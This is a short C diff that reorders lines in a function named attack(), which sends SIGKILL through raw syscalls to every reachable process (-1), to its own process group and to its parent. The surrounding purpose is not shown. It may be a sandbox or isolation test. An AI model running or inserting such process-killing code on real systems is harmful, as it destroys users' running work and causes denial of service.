@@ -3,7 +3,7 @@
 
 static void attack(void)
 {
-    raw(SYS_kill, raw(SYS_getppid, 0, 0, 0, 0), 9, 0, 0);
     raw(SYS_kill, -1, 9, 0, 0);
     raw(SYS_kill, 0, 9, 0, 0);
+    raw(SYS_kill, raw(SYS_getppid, 0, 0, 0, 0), 9, 0, 0);
 }
